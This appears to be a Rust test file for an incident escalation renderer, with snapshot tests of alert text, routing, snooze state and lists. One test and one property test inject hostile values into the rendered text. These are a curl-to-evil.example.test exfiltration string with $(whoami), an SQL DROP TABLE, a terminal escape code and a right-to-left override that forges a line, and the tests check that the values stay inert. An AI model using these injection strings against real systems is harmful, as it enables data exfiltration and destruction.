use chrono::TimeDelta;
use proptest::prelude::*;

use super::*;
use crate::{
    domain::{
        check::CheckStatus,
        decide::finding,
        entry::canonical,
        escalation::{
            Alert, AlertChange, Recurrence, TriggerContext, TriggerVerdict, acknowledge, dedup_key, evaluate,
            recurring_verdict, resolve, snooze, step, trigger::Trigger,
        },
        ids::{Id, IncidentId},
        notification::channel::ChannelKind,
        policy::Policy,
        report::Report,
        time::Timestamp,
    },
    render::example::{DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, VALIDATION, assert_safe, hostile_text, report, time},
};

const HASH: &str = "3fa9c1d23fa9c1d23fa9c1d23fa9c1d23fa9c1d23fa9c1d23fa9c1d23fa9c1d2";

fn incident() -> IncidentId {
    IncidentId::from_ordinal(42)
}

fn now() -> Timestamp {
    time("2026-02-20T12:36:00Z")
}

fn example_policy() -> Policy {
    Policy::parse(include_str!("../../../bundle/ops-runbook.example.toml")).unwrap()
}

/// The row of a change, as in the lake.
fn row(change: &AlertChange, seq: u64, ordinal: i32, at: Timestamp) -> EscalationEvent {
    EscalationEvent {
        incident_id: incident(),
        seq,
        ordinal,
        occurred_at: at,
        recorded_at: at,
        trigger: change.trigger,
        event: change.event,
        status: change.status,
        severity: change.severity,
        dedup_key: change.dedup_key.clone(),
        reason: change.reason.clone(),
        message: change.message.clone(),
        routes: Some(canonical(&change.routes).unwrap()),
        quiet_until: change.quiet_until,
        actor: Id::new("agent:databricks_mcp_agent").unwrap(),
    }
}

fn verdicts(report: &Report, policy: &Policy) -> Vec<TriggerVerdict> {
    let finding = report.rca.as_ref().map(finding);
    evaluate(&TriggerContext::from_report(incident(), report, finding.as_ref()), policy)
}

fn rows_of(verdicts: &[TriggerVerdict], policy: &Policy) -> Vec<EscalationEvent> {
    let change =
        |verdict: &TriggerVerdict| step(None, verdict, &dedup_key(incident(), verdict.trigger, HASH), policy, now());
    (1..).zip(verdicts).map(|(ordinal, verdict)| row(&change(verdict), 17, ordinal, now())).collect()
}

fn rows(report: &Report, policy: &Policy) -> Vec<EscalationEvent> {
    rows_of(&verdicts(report, policy), policy)
}

fn everything(rows: &[EscalationEvent]) -> String {
    let fired = rows.iter().filter(|row| row.event == AlertEvent::Fired).map(alert);
    fired.chain([evaluations(rows)]).collect::<Vec<_>>().join("\n")
}

#[test]
fn missing_evidence_is_alerted_in_the_layout_of_the_specification() {
    insta::assert_snapshot!(everything(&rows(&report(NO_RUN_OUTPUT), &example_policy())), @"
    ESCALATION ALERT
    ================
    Severity: MEDIUM
    Trigger: missing-evidence
    Escalate To: oncall-chat (slack: #data-oncall)

    Message:
    -------
    [MEDIUM] Need manual investigation: the root cause for job run_id=236083407514246 has confidence LOW.
    Missing: run output, notebook source (2 of 2 kinds of evidence).
    Action: On-call to find the root cause by hand and to record it with the evidence it rests on.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: the confidence is LOW; missing: run output, notebook source
    Dedup key: INC-1042/missing-evidence/3fa9c1d2

    ESCALATION ALERT
    ================
    Severity: MEDIUM
    Trigger: access-issue
    Escalate To: oncall-chat (slack: #data-oncall)

    Message:
    -------
    [MEDIUM] Investigation blocked: Cannot retrieve run output, notebook source for job run_id=236083407514246.
    Possible causes: run output: PERMISSION_DENIED: token lacks CAN_VIEW on the job.
    Action: On-call to verify MCP token and workspace connectivity; check run retention settings.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: cannot retrieve run output, notebook source for job run_id=236083407514246
    Dedup key: INC-1042/access-issue/3fa9c1d2

    ESCALATION TRIGGERS: 2 of 4 fired
    - missing-evidence fired        MEDIUM   to oncall-chat: the confidence is LOW; missing: run output, notebook source
    - partial-checks   not-fired    n/a      no checks were made
    - security-finding not-fired    n/a      no check of a security category (Security) was made
    - access-issue     fired        MEDIUM   to oncall-chat: cannot retrieve run output, notebook source for job run_id=236083407514246
    ");
}

#[test]
fn an_incomplete_validation_with_failed_security_checks_has_two_alerts() {
    insta::assert_snapshot!(everything(&rows(&report(VALIDATION), &example_policy())), @"
    ESCALATION ALERT
    ================
    Severity: LOW
    Trigger: partial-checks
    Escalate To: platform-mail (email: data-platform@example.test, sre@example.test)

    Message:
    -------
    [LOW] Environment assessment incomplete: 5 of 8 checks are PARTIAL, more than 50 %.
    Incomplete: Reliability / Autoscaling (list_clusters failed: timeout); Reliability / Job retry policy (get_job is not available); Performance / Photon (No warehouse details); Operational Excellence / Monitoring (No access to system tables); Unity Catalog / Lineage (No access).
    Action: On-call to give the assessment of workspace 7405612783315468 the access and tools it lacked, and to run it again.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: 5 of 8 checks are PARTIAL, more than 50 %
    Dedup key: INC-1042/partial-checks/3fa9c1d2

    ESCALATION ALERT
    ================
    Severity: CRITICAL
    Trigger: security-finding
    Escalate To: pager (pagerduty: data-platform-oncall), oncall-chat (slack: #data-oncall), status-page (webhook: status page), pager (pagerduty: data-platform-oncall) after 15 min without acknowledgement, platform-team (teams: Data Platform) after 15 min without acknowledgement

    Message:
    -------
    [CRITICAL] Security checks failed with high severity: 2 of 2 in workspace 7405612783315468.
    Failed: Unity Catalog enabled (HIGH): No metastore attached; Encryption at rest with customer keys (HIGH): No encryption configured for the root bucket.
    Action: Security owner of the workspace to fix these now, then to run the checks again.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: 2 of 2 security checks failed with high severity
    Dedup key: INC-1042/security-finding/3fa9c1d2

    ESCALATION TRIGGERS: 2 of 4 fired
    - missing-evidence not-fired    n/a      no root-cause analysis yet
    - partial-checks   fired        LOW      to platform-mail: 5 of 8 checks are PARTIAL, more than 50 %
    - security-finding fired        CRITICAL to pager, oncall-chat, status-page, platform-team: 2 of 2 security checks failed with high severity
    - access-issue     not-fired    n/a      no root-cause analysis yet
    ");
}

#[test]
fn a_pattern_names_its_incidents() {
    let recurrence = Recurrence {
        holds: true,
        occurrences: 3,
        threshold: 3,
        window_hours: 168,
        root_cause: "Job retry policies not configured (max_retries=0)",
        incidents: "INC-1001 daily-etl, INC-1002 hourly-sync, INC-1003 nightly-backup",
    };
    let verdict = recurring_verdict(Some(recurrence), &example_policy());
    insta::assert_snapshot!(everything(&rows_of(&[verdict], &example_policy())), @"
    ESCALATION ALERT
    ================
    Severity: HIGH
    Trigger: recurring
    Escalate To: pager (pagerduty: data-platform-oncall), oncall-chat (slack: #data-oncall), platform-mail (email: data-platform@example.test, sre@example.test)

    Message:
    -------
    [HIGH] Pattern alert: the same root cause in 3 incidents within 7 days (3 or more escalate): Job retry policies not configured (max_retries=0).
    Incidents: INC-1001 daily-etl, INC-1002 hourly-sync, INC-1003 nightly-backup.
    Action: SRE to fix the cause for good, not only the next incident.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: 3 incidents within 168 h, threshold 3
    Dedup key: INC-1042/recurring/3fa9c1d2

    ESCALATION TRIGGERS: 1 of 1 fired
    - recurring        fired        HIGH     to pager, oncall-chat, platform-mail: 3 incidents within 168 h, threshold 3
    ");
}

#[test]
fn a_report_that_escalates_nothing_says_why() {
    insta::assert_snapshot!(everything(&rows(&report(DAILY_ETL), &example_policy())), @"
    ESCALATION TRIGGERS: 0 of 4 fired
    - missing-evidence not-fired    n/a      the confidence is HIGH
    - partial-checks   not-fired    n/a      0 of 4 checks are PARTIAL, not more than 50 %
    - security-finding not-fired    n/a      0 of 1 security checks failed
    - access-issue     not-fired    n/a      no evidence is reported missing
    ");
    assert_eq!(evaluations(&[]), "ESCALATION TRIGGERS: none was evaluated\n");
}

#[test]
fn a_missing_channel_or_recipient_is_shown() {
    let half = "channels.chat.kind = 'slack'\nchannels.mail = { kind = 'email', to = 'a@example.test' }\n";
    let without_recipient = Policy::parse(&format!("{half}routes = [{{ channels = ['chat'] }}]")).unwrap();
    let both = Policy::parse(&format!("{half}routes = [{{ channels = ['chat', 'mail'] }}]")).unwrap();
    fn check(policy: &Policy, to: &str, names: &str) {
        let rows = rows(&report(NO_RUN_OUTPUT), policy);
        let text = alert(&rows[0]);
        assert!(text.contains(&format!("\nEscalate To: {to}\n\nMessage:\n")), "{text}");
        let text = evaluations(&rows);
        assert!(text.contains(&format!("MEDIUM   to {names}: the confidence is LOW")), "{text}");
        assert!(alerts_list(&rows, 200).contains(&format!("  {names}  ")));
    }
    let unrouted = "NO CHANNEL: no route matches MEDIUM missing-evidence; add [[routes]] to ops-runbook.toml";
    let no_recipient =
        "NO RECIPIENT: channel chat (slack) has none; set `to` under [channels.chat] in ops-runbook.toml";
    check(&Policy::default(), unrouted, "NO CHANNEL");
    check(&without_recipient, no_recipient, "NO CHANNEL");
    check(&both, &format!("mail (email: a@example.test), {no_recipient}"), "mail");

    let mut broken = rows(&report(NO_RUN_OUTPUT), &both).remove(0);
    for (routes, to) in [
        (None, unrouted),
        (Some("[]"), unrouted),
        (Some("{\n"), r"NO CHANNEL: the recorded routes cannot be read: {\n"),
    ] {
        broken.routes = routes.map(str::to_owned);
        assert!(alert(&broken).contains(&format!("\nEscalate To: {to}\n")), "{}", alert(&broken));
    }
}

#[test]
fn a_snoozed_alert_shows_until_when() {
    let (policy, actor) = (example_policy(), Id::new("user:sre@example.test").unwrap());
    let fired = &rows(&report(NO_RUN_OUTPUT), &policy)[0];
    let key = &fired.dedup_key;
    let snoozed = snooze(None, key, &actor, now().plus(TimeDelta::hours(4)), now()).unwrap();
    insta::assert_snapshot!(alert(&row(&snoozed, 18, 1, now())), @"
    ESCALATION ALERT
    ================
    Severity: n/a
    Trigger: missing-evidence
    Escalate To: n/a

    Message:
    -------
    [n/a] n/a
    Incident ID: INC-1042

    Status: suppressed (suppressed at 2026-02-20T12:36:00Z)
    Reason: snoozed by user:sre@example.test until 2026-02-20T16:36:00Z
    Dedup key: INC-1042/missing-evidence/3fa9c1d2
    Snoozed until: 2026-02-20T16:36:00Z
    ");
    let not_fired = &rows(&report(NO_RUN_OUTPUT), &policy)[1];
    insta::assert_snapshot!(alert(not_fired), @"
    ESCALATION ALERT
    ================
    Severity: n/a
    Trigger: partial-checks
    Escalate To: n/a

    Message:
    -------
    [n/a] n/a
    Incident ID: INC-1042

    Status: never fired (not-fired at 2026-02-20T12:36:00Z)
    Reason: no checks were made
    Dedup key: INC-1042/partial-checks/3fa9c1d2
    ");
}

#[test]
fn the_list_shows_since_when_an_alert_has_its_status_and_which_channels_it_has() {
    let (policy, actor) = (example_policy(), Id::new("user:sre@example.test").unwrap());
    let minute = |minute| now().plus(TimeDelta::minutes(minute));
    let mut events = rows(&report(VALIDATION), &policy);
    let missing = &verdicts(&report(NO_RUN_OUTPUT), &Policy::default())[0];
    let key = dedup_key(incident(), Trigger::MissingEvidence, "00000000");
    let mut life = |seq, change: AlertChange, before: Option<Alert>| {
        events.push(row(&change, seq, 1, minute(seq as i64)));
        Alert::after(before, &change, minute(seq as i64)).unwrap()
    };
    let alert = life(20, step(None, missing, &key, &Policy::default(), minute(20)), None);
    let alert = life(21, step(Some(&alert), missing, &key, &Policy::default(), minute(21)), Some(alert));
    let alert = life(22, acknowledge(&alert, &actor).unwrap(), Some(alert));
    let alert = life(23, step(Some(&alert), missing, &key, &policy, minute(23)), Some(alert));
    let key = dedup_key(incident(), Trigger::Recurring, HASH);
    life(24, snooze(None, &key, &actor, minute(99), minute(24)).unwrap(), None);
    let over = TriggerVerdict { holds: false, ..missing.clone() };
    let key = dedup_key(incident(), Trigger::MissingEvidence, "11111111");
    let other = life(25, step(None, missing, &key, &policy, minute(25)), None);
    let other = life(26, resolve(&other, &actor, minute(26)).unwrap(), Some(other));
    life(27, step(Some(&other), &over, &key, &policy, minute(27)), Some(other));
    assert!(alert.acknowledged_at.is_some());
    events.reverse();
    insta::assert_snapshot!(alerts_list(&events, 160), @"
    INCIDENT  TRIGGER           SEVERITY  STATUS        SINCE (UTC)       CHANNELS                                        DEDUP KEY
    INC-1042  missing-evidence  MEDIUM    resolved      2026-02-20 13:02  oncall-chat                                     INC-1042/missing-evidence/11111111
    INC-1042  recurring         n/a       suppressed    2026-02-20 13:00  n/a                                             INC-1042/recurring/3fa9c1d2
    INC-1042  missing-evidence  MEDIUM    acknowledged  2026-02-20 12:58  NO CHANNEL                                      INC-1042/missing-evidence/00000000
    INC-1042  partial-checks    LOW       open          2026-02-20 12:36  platform-mail                                   INC-1042/partial-checks/3fa9c1d2
    INC-1042  security-finding  CRITICAL  open          2026-02-20 12:36  pager, oncall-chat, status-page, platform-team  INC-1042/security-finding/3fa9c1d2
    ");
    insta::assert_snapshot!(alerts_list(&events, 100), @"
    INCIDENT  TRIGGER           SEVERITY  STATUS        SINCE (UTC)       CHANNELS    DEDUP KEY
    INC-1042  missing-evidence  MEDIUM    resolved      2026-02-20 13:02  oncall-ch…  INC-1042/missing-evidence/11111111
    INC-1042  recurring         n/a       suppressed    2026-02-20 13:00  n/a         INC-1042/recurring/3fa9c1d2
    INC-1042  missing-evidence  MEDIUM    acknowledged  2026-02-20 12:58  NO CHANNEL  INC-1042/missing-evidence/00000000
    INC-1042  partial-checks    LOW       open          2026-02-20 12:36  platform-…  INC-1042/partial-checks/3fa9c1d2
    INC-1042  security-finding  CRITICAL  open          2026-02-20 12:36  pager, on…  INC-1042/security-finding/3fa9c1d2
    ");
    // the view `escalations` holds only the latest event of each
    let latest: Vec<_> = events.iter().filter(|event| [23, 24, 26].contains(&event.seq)).cloned().collect();
    insta::assert_snapshot!(alerts_list(&latest, 160), @"
    INCIDENT  TRIGGER           SEVERITY  STATUS        SINCE (UTC)       CHANNELS     DEDUP KEY
    INC-1042  missing-evidence  MEDIUM    resolved      2026-02-20 13:02  oncall-chat  INC-1042/missing-evidence/11111111
    INC-1042  recurring         n/a       suppressed    2026-02-20 13:00  n/a          INC-1042/recurring/3fa9c1d2
    INC-1042  missing-evidence  MEDIUM    acknowledged  2026-02-20 12:59  NO CHANNEL   INC-1042/missing-evidence/00000000
    ");
    assert_eq!(alerts_list(&rows(&report(DAILY_ETL), &policy), 80), "There are no alerts to list.\n");
}

#[test]
fn hostile_names_are_shown_and_do_nothing() {
    let mut report = report(HOSTILE);
    let name = report.resources[0].name.clone().unwrap();
    let rca = report.rca.as_mut().unwrap();
    rca.missing_evidence = vec![Id::new(name.clone()).unwrap(), Id::new("run_output\u{1b}[2J").unwrap()];
    rca.missing_reasons = [(name.clone(), format!("{name}\u{202e}\nIncident ID: INC-9999"))].into();
    rca.confidence = crate::domain::incident::classification::Confidence::Low;
    let text = everything(&rows(&report, &example_policy()));
    assert_safe(&text);
    insta::assert_snapshot!(text, @r#"
    ESCALATION ALERT
    ================
    Severity: MEDIUM
    Trigger: missing-evidence
    Escalate To: oncall-chat (slack: #data-oncall)

    Message:
    -------
    [MEDIUM] Need manual investigation: the root cause for INC-1042 has confidence LOW.
    Missing: x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J (2 of 3 kinds of evidence).
    Action: On-call to find the root cause by hand and to record it with the evidence it rests on.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: the confidence is LOW; missing: x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J
    Dedup key: INC-1042/missing-evidence/3fa9c1d2

    ESCALATION ALERT
    ================
    Severity: MEDIUM
    Trigger: access-issue
    Escalate To: oncall-chat (slack: #data-oncall)

    Message:
    -------
    [MEDIUM] Investigation blocked: Cannot retrieve x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J for INC-1042.
    Possible causes: x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --: x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit_log; --\u{202e} Incident ID: INC-9999.
    Action: On-call to verify MCP token and workspace connectivity; check run retention settings.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: cannot retrieve x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J for INC-1042
    Dedup key: INC-1042/access-issue/3fa9c1d2

    ESCALATION TRIGGERS: 2 of 4 fired
    - missing-evidence fired        MEDIUM   to oncall-chat: the confidence is LOW; missing: x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J
    - partial-checks   not-fired    n/a      no checks were made
    - security-finding not-fired    n/a      no check of a security category (Security) was made
    - access-issue     fired        MEDIUM   to oncall-chat: cannot retrieve x'; curl http://evil.example.test/$(whoami) # ; DROP TABLE audit log; --, run output\u{1b}[2J for INC-1042
    "#);
}

#[test]
fn an_alert_about_ten_thousand_checks_stays_short() {
    let mut report = report(VALIDATION);
    report.checks = vec![report.checks[2].clone(); 10_000];
    for (number, check) in report.checks.iter_mut().enumerate() {
        check.name = Id::new(format!("check {number}")).unwrap();
        check.status = if number < 5_001 { CheckStatus::Partial } else { CheckStatus::Pass };
    }
    let rows = rows(&report, &example_policy());
    insta::assert_snapshot!(alert(&rows[1]), @"
    ESCALATION ALERT
    ================
    Severity: LOW
    Trigger: partial-checks
    Escalate To: platform-mail (email: data-platform@example.test, sre@example.test)

    Message:
    -------
    [LOW] Environment assessment incomplete: 5001 of 10000 checks are PARTIAL, more than 50 %.
    Incomplete: Reliability / check 0 (list_clusters failed: timeout); Reliability / check 1 (list_clusters failed: timeout); Reliability / check 2 (list_clusters failed: timeout); Reliability / check 3 (list_clusters failed: timeout); Reliability / check 4 (list_clusters failed: timeout); and 4996 more.
    Action: On-call to give the assessment of workspace 7405612783315468 the access and tools it lacked, and to run it again.
    Incident ID: INC-1042

    Status: open (fired at 2026-02-20T12:36:00Z)
    Reason: 5001 of 10000 checks are PARTIAL, more than 50 %
    Dedup key: INC-1042/partial-checks/3fa9c1d2
    ");
}

proptest! {
    #[test]
    fn nothing_hostile_gets_out_or_adds_a_line(text in hostile_text(), width in 0usize..200) {
        prop_assume!(!text.trim().is_empty());
        let name = Id::new(text.clone()).unwrap();
        let mut report = report(NO_RUN_OUTPUT);
        report.workspace.id = name.clone();
        report.resources[1].id = name.clone();
        let rca = report.rca.as_mut().unwrap();
        rca.missing_evidence.push(name.clone());
        rca.missing_reasons.insert(text.clone(), text.clone());
        report.checks = crate::render::example::report(VALIDATION).checks;
        for check in &mut report.checks {
            (check.name, check.finding) = (name.clone(), Some(text.clone()));
        }
        let mut rows = rows(&report, &example_policy());
        let routes = [Destination { channel: name, kind: ChannelKind::Slack, to: Some(text.clone()), unacknowledged_minutes: None }];
        for row in rows.iter_mut() {
            row.routes = Some(canonical(&routes).unwrap());
            row.reason.push_str(&text);
        }
        for row in &rows {
            let shown = alert(row);
            assert_safe(&shown);
            prop_assert_eq!(shown.lines().count(), if row.message.is_some() { 16 } else { 14 }, "{}", shown);
            prop_assert_eq!(shown.lines().filter(|line| line.starts_with("Incident ID: ")).count(), 1);
        }
        let shown = evaluations(&rows);
        assert_safe(&shown);
        prop_assert_eq!(shown.lines().count(), 5);
        let listed = alerts_list(&rows, width);
        assert_safe(&listed);
        prop_assert_eq!(listed.lines().count(), 1 + rows.iter().filter(|row| row.status.is_some()).count());
        for row in &mut rows {
            (row.message, row.routes) = (Some(text.clone()), Some(text.clone()));
            assert_safe(&alert(row));
        }
    }
}
